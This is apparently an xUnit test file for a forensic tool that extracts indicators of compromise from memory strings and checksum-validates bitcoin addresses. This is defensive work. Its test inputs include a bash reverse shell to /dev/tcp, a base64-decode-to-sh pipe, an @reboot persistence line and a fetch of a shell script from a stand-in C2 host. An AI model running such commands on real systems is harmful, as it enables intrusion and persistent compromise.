using System.Text;
using CaseManager.Application.Analysis.Memory;
using CaseManager.Domain.Evidence;
using CaseManager.Infrastructure.Analysis.Memory;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Memory;

/// <summary>Indicator extraction rules on single strings: validation, not pattern shape alone.</summary>
public sealed class IndicatorCollectorTests
{
    [Theory]
    [InlineData("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", true)]
    [InlineData("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", false)] // last character changed: checksum fails
    [InlineData("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", true)]
    public void Base58_bitcoin_addresses_are_checksum_validated(string address, bool valid) =>
        WalletValidator.IsBitcoinBase58(address).ShouldBe(valid);

    [Theory]
    [InlineData("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", true)]                   // BIP-173 vector (bech32, v0)
    [InlineData("bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0", true)] // BIP-350 vector (bech32m, v1)
    [InlineData("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", false)]
    public void Bech32_bitcoin_addresses_are_checksum_validated(string address, bool valid) =>
        WalletValidator.IsBitcoinBech32(address).ShouldBe(valid);

    [Theory]
    [InlineData("connect sjb555.3322.org now", IndicatorType.Domain, "sjb555.3322.org")]
    [InlineData("GET http://Evil-C2.example.com:8080/x.sh HTTP/1.1", IndicatorType.Domain, "evil-c2.example.com")]
    [InlineData("peer 170.178.191.191:6667 up", IndicatorType.Ip, "170.178.191.191")]
    [InlineData("bind fe80::1ff:fe23:4567:890a%eth0", IndicatorType.Ip, "fe80::1ff:fe23:4567:890a")]
    [InlineData("mail to: admin@example-c2.net please", IndicatorType.Email, "admin@example-c2.net")]
    [InlineData("http://expyuzz4wqqyqhjn.onion/index", IndicatorType.Onion, "expyuzz4wqqyqhjn.onion")]
    [InlineData("bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", IndicatorType.Command, "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")]
    [InlineData("echo Y3VybA== | base64 -d | sh", IndicatorType.Command, "echo Y3VybA== | base64 -d | sh")]
    [InlineData("chmod +x /tmp/.x/kdevtmpfsi", IndicatorType.Command, "chmod +x /tmp/.x/kdevtmpfsi")]
    [InlineData("@reboot /tmp/.x/kdevtmpfsi", IndicatorType.StartupItem, "@reboot /tmp/.x/kdevtmpfsi")]
    [InlineData("copy to %APPDATA%\\Microsoft\\svc.exe", IndicatorType.FilePath, "%APPDATA%\\Microsoft\\svc.exe")]
    public void Strings_yield_the_expected_indicator(string text, IndicatorType type, string value) =>
        Collect(text).Indicators.ShouldContain(i => i.Type == type && i.Value == value);

    [Theory]
    [InlineData("/usr/lib/x86_64-linux-gnu/libc.so.6")]   // .so is a ccTLD but this is a file
    [InlineData("version 1.2.3.4.5 of the library")]       // not an IPv4 address
    [InlineData("AssemblyVersion 1.0.0.0 net 10.20.0.0")]  // versions and networks, not hosts
    [InlineData("a.mc xK.zz q.r.s.t")]                      // one-letter labels, unknown TLDs
    [InlineData("main.cc and setup.py and README.md")]      // file names with ccTLD extensions
    [InlineData("color.red os.link enum.name data.rel.ro")] // identifiers ending in word-like or rare TLDs
    public void Look_alikes_are_not_domains_or_ips(string text) =>
        Collect(text).Indicators.ShouldNotContain(i => i.Type == IndicatorType.Domain || i.Type == IndicatorType.Ip);

    [Fact]
    public void Rare_tlds_are_accepted_as_url_hosts_but_not_as_bare_names()
    {
        Collect("http://update.bad-cdn.red/x").Indicators.ShouldContain(i => i.Type == IndicatorType.Domain && i.Value == "update.bad-cdn.red");
        Collect("update.bad-cdn.red").Indicators.ShouldNotContain(i => i.Type == IndicatorType.Domain);
    }

    [Fact]
    public void Malware_names_match_whole_words_only()
    {
        var hit = Collect("started XMRig/6.21 miner");
        hit.MalwareNames.ShouldContainKey("xmrig");

        var miss = Collect("please continue with the mirainbow conticker");
        miss.MalwareNames.ShouldBeEmpty();
    }

    [Fact]
    public void Utf16_offsets_are_scaled_to_bytes()
    {
        var collector = new IndicatorCollector();
        collector.OnString(StringEncoding.Utf16Le, 1000, Encoding.ASCII.GetBytes("xx /etc/cron.d/x"));
        collector.Indicators.ShouldContain(i => i.Value == "/etc/cron.d/x" && i.Context == "utf16le string at offset 1006");
    }

    private static IndicatorCollector Collect(string text)
    {
        var collector = new IndicatorCollector();
        collector.OnString(StringEncoding.Ascii, 0, Encoding.ASCII.GetBytes(text));
        return collector;
    }
}
